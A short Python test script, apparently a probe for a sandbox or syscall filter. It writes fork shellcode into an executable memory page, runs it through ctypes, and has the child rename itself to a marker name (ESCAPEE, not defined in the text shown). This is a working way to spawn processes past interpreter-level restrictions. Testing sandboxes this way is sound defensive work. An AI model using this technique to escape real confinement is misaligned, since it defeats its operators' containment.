"""Write machine code and run it: an exec by hand. Success: it left a mark."""

import ctypes
import mmap
import platform


def attack():
    if platform.machine() != "x86_64":
        return
    page = mmap.mmap(-1, 4096, prot=7)
    # eax = 57 (fork); syscall; ret
    page.write(b"\xb8\x39\0\0\0\x0f\x05\xc3")
    code = ctypes.CFUNCTYPE(ctypes.c_long)(
        ctypes.addressof(ctypes.c_char.from_buffer(page))
    )
    if code() == 0:
        import os
        import time

        ctypes.CDLL(None).prctl(15, ESCAPEE)
        time.sleep(5)
        os._exit(0)
